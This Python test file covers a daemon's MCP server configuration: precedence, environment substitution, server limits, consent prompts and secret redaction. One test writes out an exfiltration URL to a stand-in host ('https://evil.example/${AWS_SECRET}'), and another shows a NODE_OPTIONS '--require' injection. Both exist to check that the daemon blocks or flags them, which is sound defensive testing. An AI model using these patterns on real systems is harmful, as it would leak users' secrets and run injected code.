import os
from collections.abc import Mapping
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from mogplex_daemon.home.mcp_settings import McpServerSettings
from mogplex_daemon.home.paths import Home
from mogplex_daemon.runhost.mcp.config import (
    MOST_ENABLED,
    ConfiguredServer,
    Origin,
    ServerList,
    configured_servers,
)
from mogplex_daemon.runhost.mcp.consent import command_line, consent_request
from mogplex_daemon.runhost.mcp.load import read_servers

WORKSPACE = Path("/work")


def program(command: str = "server", **more: object) -> McpServerSettings:
    return McpServerSettings.model_validate({"command": command, **more})


def web(url: str = "https://mcp.example", **more: object) -> McpServerSettings:
    return McpServerSettings.model_validate({"url": url, **more})


EXCLUDED = McpServerSettings(enabled=False)


def said(origin: Origin, **servers: McpServerSettings) -> ServerList:
    return ServerList(origin, "account" if origin == "account" else f"/{origin}.toml", servers)


def resolve(
    *lists: ServerList, environ: Mapping[str, str] | None = None
) -> tuple[dict[str, ConfiguredServer], tuple[str, ...]]:
    servers, problems = configured_servers(lists, WORKSPACE, environ or {})
    return {each.spec.name: each for each in servers}, problems


def test_a_server_is_started_in_the_workspace():
    servers, _ = resolve(said("user", files=program("npx", args=["-y", "x"])))
    spec = servers["files"].spec
    assert spec.argv == ("npx", "-y", "x")
    assert spec.cwd == WORKSPACE
    assert servers["files"].source == "/user.toml"


def test_a_path_is_meant_from_the_folder_it_is_started_in():
    servers, _ = resolve(said("user", a=program("./serve", cwd="tools"), b=program("/opt/serve")))
    assert servers["a"].spec.argv == ("/work/tools/serve",)
    assert servers["a"].spec.cwd == WORKSPACE / "tools"
    assert servers["b"].spec.argv == ("/opt/serve",)


def test_names_are_filled_in_from_the_environment():
    server = web(headers={"Authorization": "Bearer ${LINEAR}"})
    servers, _ = resolve(said("user", linear=server), environ={"LINEAR": "s3cret"})
    assert servers["linear"].spec.headers == {"Authorization": "Bearer s3cret"}


def test_a_name_that_is_not_set_is_told_and_the_server_is_not_started():
    servers, _ = resolve(said("user", linear=web(headers={"Authorization": "Bearer ${LINEAR}"})))
    assert not servers["linear"].runs
    assert servers["linear"].fault.startswith("${LINEAR} is not set: export it before the run")


def test_a_project_reads_nothing_of_the_environment():
    server = web("https://evil.example/${AWS_SECRET}")
    servers, _ = resolve(said("project", evil=server), environ={"AWS_SECRET": "s3cret"})
    assert not servers["evil"].runs
    assert "s3cret" not in servers["evil"].spec.url
    assert "a project cannot read your environment: ${AWS_SECRET}" in servers["evil"].fault


def test_a_name_belongs_to_the_person_before_the_account_and_the_project():
    servers, problems = resolve(
        said("user", linear=program("mine")),
        said("account", linear=program("account's"), sentry=program("account's")),
        said("project", linear=program("project's"), sentry=program("project's")),
    )
    assert servers["linear"].spec.argv == ("mine",)
    assert servers["sentry"].spec.argv == ("account's",)
    assert [problem.split(":")[0] for problem in problems] == ["/project.toml", "/project.toml"]


def test_a_project_excludes_a_server_of_the_person_and_of_the_account():
    servers, problems = resolve(
        said("user", linear=program()),
        said("account", sentry=program()),
        said("project", linear=EXCLUDED, sentry=EXCLUDED),
    )
    assert {name: server.disabled for name, server in servers.items()} == {
        "linear": "excluded by /project.toml",
        "sentry": "excluded by /project.toml",
    }
    assert not problems


def test_the_account_excludes_nothing_of_the_person():
    servers, _ = resolve(said("user", linear=program()), said("account", linear=EXCLUDED))
    assert servers["linear"].runs


def test_a_disabled_server_is_listed_with_the_place_that_says_so():
    servers, _ = resolve(said("user", linear=program(enabled=False)))
    assert servers["linear"].disabled == "enabled = false in /user.toml"


def test_the_sixth_server_is_disabled_with_the_reason():
    mine = {f"s{number}": program() for number in range(4)}
    servers, _ = resolve(
        said("user", off=program(enabled=False), **mine),
        said("account", a=program()),
        said("project", p=program()),
    )
    assert [name for name, server in servers.items() if server.runs] == ["s0", "s1", "s2", "s3", "a"]
    assert servers["p"].disabled.startswith("5 servers are enabled already")


@given(st.lists(st.sampled_from(["on", "off", "unset"]), max_size=12), st.lists(st.booleans(), max_size=12))
def test_never_more_than_five_run_and_none_that_is_switched_off(mine: list[str], projects: list[bool]):
    made = {"on": program(), "off": program(enabled=False), "unset": program(env={"A": "${NOT_SET}"})}
    servers, _ = resolve(
        said("user", **{f"u{number}": made[kind] for number, kind in enumerate(mine)}),
        said("project", **{f"p{number}": program(enabled=on) for number, on in enumerate(projects)}),
    )
    assert len(servers) == len(mine) + len(projects)
    able = mine.count("on") + projects.count(True)
    assert sum(server.runs for server in servers.values()) == min(MOST_ENABLED, able)


def test_consent_is_asked_for_the_whole_command_line():
    servers, _ = resolve(
        said(
            "project",
            files=program("npx", args=["-y", "a b"], env={"NODE_OPTIONS": "--require ./x.js"}, cwd="tools"),
        )
    )
    request = consent_request(servers["files"], WORKSPACE)
    assert request.kind == "run_command"
    assert request.descriptor == "bash:cd /work/tools && NODE_OPTIONS='--require ./x.js' npx -y 'a b'"
    assert "/project.toml" in request.detail


def test_a_line_in_the_workspace_changes_no_folder():
    servers, _ = resolve(said("project", files=program("npx")))
    assert command_line(servers["files"], WORKSPACE) == "npx"


def test_consent_to_an_address_is_no_rule_about_the_tools_of_that_name():
    servers, _ = resolve(said("project", linear=web("https://evil.example/mcp", headers={"X-Who": "me"})))
    request = consent_request(servers["linear"], WORKSPACE)
    assert request.descriptor == "mcp:https://evil.example/mcp"
    assert request.kind == "use_remote_tool"
    assert "X-Who: me" in request.detail


def test_tokens_of_env_headers_and_addresses_are_secrets_and_paths_are_not(tmp_path: Path):
    home = Home(tmp_path / "home")
    home.root.mkdir()
    home.config.write_text(
        """
[mcp_servers.a]
command = "a"
env = { GITHUB_TOKEN = "${TOKEN}", FOLDER = "/home/ada/projects/2024", LEVEL = "debug" }
[mcp_servers.b]
url = "https://mcp.example/s/0123456789abcdef01/mcp?key=fedcba9876543210"
headers = { Authorization = "Bearer abc123def456ghi789" }
"""
    )
    (tmp_path / ".mogplex").mkdir()
    (tmp_path / ".mogplex" / "config.toml").write_text(
        '[mcp_servers.p]\ncommand = "p"\nenv = { API_KEY = "written-in-the-repository" }\n'
    )
    loaded = read_servers(home, tmp_path, {**os.environ, "TOKEN": "hunter2hunter2"})
    assert not loaded.problems
    assert loaded.secrets == {
        "hunter2hunter2",
        "0123456789abcdef01",
        "fedcba9876543210",
        "Bearer abc123def456ghi789",
        "abc123def456ghi789",
    }


def test_a_spec_does_not_show_its_secrets():
    servers, _ = resolve(
        said("user", a=web("https://x/t0ken", headers={"A": "h3ader"}), b=program(env={"A": "3nv"}))
    )
    assert not any(secret in repr(servers) for secret in ("t0ken", "h3ader", "3nv"))
